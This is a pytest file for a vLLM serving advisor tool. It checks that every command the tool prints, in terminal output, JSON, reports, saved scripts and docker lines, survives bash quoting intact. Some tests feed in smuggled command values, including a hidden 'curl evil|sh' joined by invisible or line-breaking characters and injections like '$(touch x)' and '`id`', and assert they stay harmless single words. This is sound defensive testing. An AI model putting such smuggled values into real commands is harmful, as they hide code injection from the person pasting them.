"""Every command the tool prints or saves runs when pasted.

One table of situations (a local model folder with spaces, a session exported with --redact-paths so
its model reads `~/...`, JSON configs with quotes, docker for each vendor, tensor parallel, an engine
command with environment variables and spaces) drives every printer: advise (terminal and --json),
snippet --command, sessions show, the Markdown and HTML reports, export-plan, the TUI's saved script,
the plan hand-off and the trust boundary's hint. Each command is checked with `bash -n`, then bash
itself expands it (`set -- <command>`) and its words must be what was meant: no brace expansion of
JSON, no redirection, `~` expanded to the home directory. The slow test feeds every `vllm serve`
line to vLLM's own argument parser in the CPU engine's environment.
"""

from __future__ import annotations

import html
import json
import os
import re
import shlex
import stat
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path

import pytest

from specadvisor.cli.main import main
from specadvisor.domain import Recommendation
from specadvisor.errors import InputError
from specadvisor.fileio import write_atomic
from specadvisor.store import Store
from specadvisor.store.bundle import export_bundle
from specadvisor.trust import handoff_commands, recommended_command, refuse_imported
from specadvisor.vllm_command import shell_command, shell_script

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "store"))
from store_samples import make_session

HOME = "/home/alice"  # the exporting user's home: --redact-paths turns it into `~`
CONFIG = {"method": "eagle3", "model": "z-lab/it's-{EAGLE3}", "num_speculative_tokens": 3}
# A bundle's config crosses only through the allow-list (crossing): its drafter never does, so a
# teammate's recommendation is printed here when it needs none.
IMPORTED_CONFIG = {"method": "ngram", "num_speculative_tokens": 4, "prompt_lookup_max": 4}


@dataclass
class Printed:
    situation: str
    source: str
    command: str


def _commands_in(text: str) -> list[str]:
    """Commands in terminal output: a line starting with a known program, plus its ` \\` continuations."""
    found, current = [], None
    for line in text.splitlines():
        if current is not None:
            current.append(line)
        elif re.match(r"(vllm|docker|specadvisor|'[^']*vllm[^']*'|[A-Z_]+=\S+ )", line):
            current = [line]
        else:
            continue
        if not line.endswith(" \\"):
            found.append("\n".join(current))
            current = None
    return found


def _fenced(markdown: str, info: str) -> list[str]:
    return [block.strip("\n") for block in re.findall(rf"```{info}\n(.*?)\n```", markdown, re.DOTALL)]


def _pre(page: str) -> list[str]:
    return [html.unescape(block) for block in re.findall(r"<pre>(.*?)</pre>", page, re.DOTALL) if not block.lstrip().startswith("[")]


def _local_session(tmp_path: Path):
    """Measured here: a model folder with spaces, an engine command with env vars and a spaced path, TP 2."""
    session = make_session()
    session.model = str(tmp_path / "my models" / "Qwen3 8B")
    session.settings = session.settings.replace(
        engine_cmd=["env", "VLLM_CPU_KVCACHE_SPACE=4", "OMP_NUM_THREADS=2", "/opt/vllm env/bin/vllm", "serve"],
        server_args=["--tensor-parallel-size", "2", "--download-dir=~/hf cache"],
    )
    arm = session.arms[-1]
    arm.speculative_config = dict(CONFIG)
    session.recommendation = Recommendation(arm_id=arm.id, speculative_config=dict(CONFIG), serve_command="stale 'stored' string")
    for result, a in zip(session.results, session.arms, strict=False):
        spec = ["--speculative-config", json.dumps(a.speculative_config)] if a.speculative_config else []
        result.serve_argv = ["vllm", "serve", session.model, "--host", "127.0.0.1", "--port", "8123", *spec, "--api-key", "sk-abcdefabcdefabcdef12"]
    return session


def _redacted_bundle(tmp_path: Path, monkeypatch) -> Path:
    """A teammate's session exported with --redact-paths: its model path becomes `~/models/Qwen3 8B`."""
    monkeypatch.setenv("HOME", HOME)
    session = make_session()
    session.model = f"{HOME}/models/Qwen3 8B"
    session.recommendation = Recommendation(arm_id=session.arms[-1].id, speculative_config=dict(IMPORTED_CONFIG))
    path = export_bundle(session, tmp_path / "teammate.json", redact_paths=True)
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    assert "~/models/Qwen3 8B" in path.read_text()
    return path


def _run(capsys, *argv: str, code: int = 0) -> str:
    assert main(list(argv)) == code, capsys.readouterr()
    return capsys.readouterr().out


def _model_folder(tmp_path: Path, name: str, fixture: str) -> Path:
    folder = tmp_path / "my models" / name
    folder.mkdir(parents=True)
    for file in (Path(__file__).parents[1] / "fixtures" / "models" / fixture).iterdir():
        (folder / file.name).write_bytes(file.read_bytes())
    return folder


def collect(tmp_path: Path, capsys, monkeypatch) -> list[Printed]:
    monkeypatch.setenv("SPECADVISOR_HOME", str(tmp_path / "sa"))
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    db = str(tmp_path / "s.db")
    printed: list[Printed] = []

    def add(situation: str, source: str, commands: list[str]) -> None:
        assert commands, f"{source} printed no command for {situation}"
        printed.extend(Printed(situation, source, c) for c in commands)

    # advise: a local model folder with spaces and a local drafter folder, TP 2, three vendors
    target = _model_folder(tmp_path, "Llama 8B", "Llama-3.1-8B-Instruct")
    for gpu in ("H100x2", "MI300Xx2"):
        argv = ["advise", "--model", str(target), "--gpu", gpu, "--tensor-parallel-size", "2", "--offline"]
        add(f"local folder, {gpu}", "advise", _commands_in(_run(capsys, *argv)))
        data = json.loads(_run(capsys, *argv, "--json"))
        lines = [c[key] for c in [*data["candidates"], data["baseline"]] for key in ("serve_command", "container_command") if c.get(key)]
        add(f"local folder, {gpu}", "advise --json", lines)
    add("CPU host", "advise", _commands_in(_run(capsys, "advise", "--model", "Qwen/Qwen3-8B", "--offline", "--params-b", "8")))

    # a session measured here, and one imported from a bundle exported with --redact-paths
    local = _local_session(tmp_path)
    with Store.open(Path(db)) as store:
        store.save_session(local)
    imported_id = json.loads(_run(capsys, "--db", db, "sessions", "import", "--json", str(_redacted_bundle(tmp_path, monkeypatch))))["session_id"]
    for situation, sid in (("local, engine env vars, TP 2", local.id[:8]), ("imported, redacted ~ path", imported_id[:8])):
        add(situation, "snippet --command", [_run(capsys, "--db", db, "snippet", sid, "--command").rstrip("\n")])
        shown = _run(capsys, "--db", db, "sessions", "show", sid)
        add(situation, "sessions show", [re.search(r"serve with: ((?:.*\\\n)*.*)", shown).group(1)])
        report = _run(capsys, "--db", db, "report", sid)
        add(situation, "report md", _fenced(report, "sh") + [b for b in _fenced(report, "") if b.startswith("--speculative-config")])
        page = tmp_path / f"{sid}.html"
        _run(capsys, "--db", db, "report", sid, "-o", str(page))
        add(situation, "report html", _pre(page.read_text()))
        params = tmp_path / "plan dir" / "serve params.json"
        params.parent.mkdir(exist_ok=True)
        add(situation, "export-plan", [_run(capsys, "--db", db, "export-plan", sid, "--serve-params", str(params), "--force").rstrip("\n")])
        with Store.open(Path(db)) as store:
            session = store.get_session(sid)
        script = shell_script(recommended_command(session, session.recommendation), comment="saved by the TUI")
        add(situation, "TUI save snippet", [script])
        add(situation, "plan hand-off", handoff_commands(session, "plan for H100x8.json"))
    with Store.open(Path(db)) as store, pytest.raises(InputError) as refused:
        refuse_imported(store.get_session(imported_id))
    add("imported, redacted ~ path", "--resume refusal hint", [str(refused.value).split("engine: ", 1)[1].rstrip(")")])
    add("env vars", "shell_command", [shell_command(["vllm", "serve", "m"], env={"HF_TOKEN_PATH": "~/tok en", "CUDA_VISIBLE_DEVICES": "0,1"}, width=20)])
    return printed


_HOME_PREFIX = re.compile(r"^((?:-{1,2}[\w.-]+|[A-Za-z_]\w*)=)?(?:~|\$HOME)(?=/|$)")


def _body(command: str) -> str:
    """A saved script's command: without its shebang and comment lines."""
    return "\n".join(line for line in command.splitlines() if not line.startswith("#"))


def _expected_words(command: str, home: str) -> list[str]:
    """What the command should expand to, read independently by shlex: a leading `~` or `$HOME`
    (or one after `--flag=` / `NAME=`) means the home directory (shlex cannot tell a quoted `'~/x'`,
    which bash leaves literal)."""
    words = shlex.split(_body(command).replace(" \\\n", " "))
    return [_HOME_PREFIX.sub(lambda m: (m.group(1) or "") + home, word) for word in words]


def bash_words(command: str, home: str) -> list[str]:
    """The words bash makes of `command` (all expansions applied), without running it."""
    script = "set -- " + _body(command) + "\nprintf '%s\\0' \"$@\""
    out = subprocess.run(["bash", "-c", script], env={"HOME": home, "PATH": os.environ["PATH"]}, capture_output=True, check=True)
    return out.stdout.decode().split("\0")[:-1]


def _spec_configs(words: list[str]) -> list[dict]:
    return [json.loads(words[i + 1]) for i, w in enumerate(words) if w == "--speculative-config"]


@pytest.fixture
def printed(tmp_path, capsys, monkeypatch) -> list[Printed]:
    return collect(tmp_path, capsys, monkeypatch)


def test_every_printed_command_parses_and_expands_to_what_was_meant(printed, tmp_path):
    home = str(tmp_path / "home")
    sources = {p.source for p in printed}
    assert {"advise", "advise --json", "snippet --command", "report md", "report html", "export-plan", "TUI save snippet", "plan hand-off"} <= sources
    for p in printed:
        where = f"{p.source} [{p.situation}]:\n{p.command}"
        assert subprocess.run(["bash", "-n"], input=p.command, text=True, capture_output=True).returncode == 0, where
        words = bash_words(p.command, home)
        assert words == _expected_words(p.command, home), where
        assert not any(w.startswith("~") for w in words), where  # every tilde expanded
        for config in _spec_configs(words):  # JSON reaches the program whole (not brace-expanded)
            assert isinstance(config, dict) and config.get("method"), where


def test_paths_json_and_docker_mounts_survive_the_shell(printed, tmp_path):
    home = str(tmp_path / "home")
    by_source = {}
    for p in printed:
        by_source.setdefault((p.source, p.situation), []).append(bash_words(p.command, home))
    imported = by_source[("snippet --command", "imported, redacted ~ path")][0]
    assert imported[2] == "MODEL"  # a bundle's model (here `~/models/Qwen3 8B`) is never printed as something to run
    assert _spec_configs(imported) == [IMPORTED_CONFIG]
    local = by_source[("snippet --command", "local, engine env vars, TP 2")][0]
    assert local[:5] == ["env", "VLLM_CPU_KVCACHE_SPACE=4", "OMP_NUM_THREADS=2", "/opt/vllm env/bin/vllm", "serve"]
    assert _spec_configs(local) == [CONFIG] and f"--download-dir={home}/hf cache" in local
    dockers = [w for (source, where), cmds in by_source.items() if source == "advise" and "local" in where for w in cmds if w[:2] == ["docker", "run"]]
    assert len(dockers) >= 2
    for words in dockers:  # the local model folder is mounted, and vLLM is pointed at the mount
        mount = next(w for w in words if w.endswith(":ro"))
        host, inside, _ = mount.rsplit(":", 2)
        assert host == str(tmp_path / "my models" / "Llama 8B") and inside in words[words.index(mount) + 1 :]
    hint = by_source[("--resume refusal hint", "imported, redacted ~ path")][0]
    assert hint[:3] == ["specadvisor", "sweep", "--resume"] and hint[-3:] == ["--rebuild", "--model", "MODEL"]
    hand_off = by_source[("plan hand-off", "imported, redacted ~ path")]
    assert hand_off[-1][-3:] == ["--rebuild", "--model", "MODEL"] and hand_off[0][-1] == "plan for H100x8.json"
    local_hand_off = by_source[("plan hand-off", "local, engine env vars, TP 2")]
    assert local_hand_off[-1][-3:-1] == ["--rebuild", "--model"]  # your own plan names its own model


def test_saved_script_is_executable_with_a_shebang(tmp_path):
    path = write_atomic(tmp_path / "serve it.sh", shell_script("vllm serve m --port 8000"), mode=0o755)
    assert path.read_text().startswith("#!/usr/bin/env bash\n")
    assert stat.S_IMODE(path.stat().st_mode) == 0o755
    assert subprocess.run(["bash", "-n", str(path)]).returncode == 0


def test_invisible_and_line_breaking_characters_are_shown_as_bash_escapes():
    """Line separators, bidi marks, zero-width characters and C1 controls never appear raw (a pasted
    command could hide a second one or show its words reordered); bash reads each back exactly."""
    for char in ("\n", "\u2028", "\u2029", "\u200b", "\u200f", "\u202e", "\u2066", "\u061c", "\u180e", "\ufeff", "\ufffb", "\x85", "\x9b"):
        command = shell_command(["vllm", "serve", f"org/m{char}curl evil|sh"])
        assert char not in command, repr(char)
        escape = "\\n" if char == "\n" else f"\\u{ord(char):04x}"
        assert f"$'org/m{escape}curl evil|sh'" in command
        words = subprocess.run(
            ["bash", "-c", f"set -- {command}; printf '%s\\0' \"$@\""], env={"LC_ALL": "C.UTF-8", "PATH": os.environ["PATH"]}, capture_output=True, check=True
        )
        assert words.stdout.decode().split("\0")[:-1] == ["vllm", "serve", f"org/m{char}curl evil|sh"], repr(char)


def test_hostile_characters_stay_one_word():
    for arg in ("a\nb", "it's", "$(touch x)", "`id`", "{a,b}", "*", "<redacted>", "~user/x", "-", "a'\x1b[31m"):
        command = shell_command(["echo", arg])
        assert "\x1b" not in command and "\n" not in command
        assert bash_words(command, "/h") == ["echo", arg]


VLLM_PARSE = r"""
import json, shlex, sys
from vllm.entrypoints.launchers.cli_args import make_arg_parser
from vllm.utils.argparse_utils import FlexibleArgumentParser
out = []
for argv in json.load(sys.stdin):
    parser = make_arg_parser(FlexibleArgumentParser(prog="vllm serve"))
    ns = parser.parse_args(argv)
    spec = ns.speculative_config
    out.append({"model": ns.model_tag, "spec": spec if spec is None or isinstance(spec, dict) else json.loads(spec),
                "tp": ns.tensor_parallel_size, "port": ns.port})
json.dump(out, sys.stdout)
"""


@pytest.mark.slow
def test_vllm_parses_every_serve_line(printed, tmp_path, cpu_engine):
    """vLLM's own parser (the CPU engine's vLLM) reads each `vllm serve` line and each container's
    server arguments back to the model, speculative config and parallelism they were printed with."""
    home = str(tmp_path / "home")
    table = []
    for p in printed:
        words = bash_words(p.command, home)
        if "serve" in words and words[0] != "specadvisor" and "bench" not in words:
            table.append(words[words.index("serve") + 1 :])
        elif words[:2] == ["docker", "run"]:
            image = next(i for i, w in enumerate(words) if w.startswith(("vllm/", "public.ecr.aws/")))
            table.append(words[image + 1 :])
        elif words[:4] == ["vllm", "bench", "sweep", "serve"]:  # vLLM splits --serve-cmd itself, like shlex
            serve = shlex.split(words[words.index("--serve-cmd") + 1])
            table.append(serve[2:])
    assert len(table) >= 20
    done = subprocess.run([str(cpu_engine.python), "-c", VLLM_PARSE], input=json.dumps(table), capture_output=True, text=True, timeout=600)
    assert done.returncode == 0, done.stderr[-3000:]
    parsed = json.loads(done.stdout)
    for argv, got in zip(table, parsed, strict=True):
        assert got["model"] == argv[0], argv
        if "--speculative-config" in argv:
            assert got["spec"] == json.loads(argv[argv.index("--speculative-config") + 1]), argv
        if "--tensor-parallel-size" in argv:
            assert got["tp"] == int(argv[argv.index("--tensor-parallel-size") + 1]), argv
